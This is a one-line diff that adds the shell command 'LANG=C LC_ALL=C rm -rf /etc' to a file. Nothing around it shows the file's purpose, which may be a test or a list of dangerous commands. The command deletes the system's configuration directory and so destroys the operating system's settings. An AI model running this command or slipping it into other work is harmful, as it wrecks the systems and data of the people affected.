@@ -1,0 +1,1 @@
+LANG=C LC_ALL=C rm -rf /etc
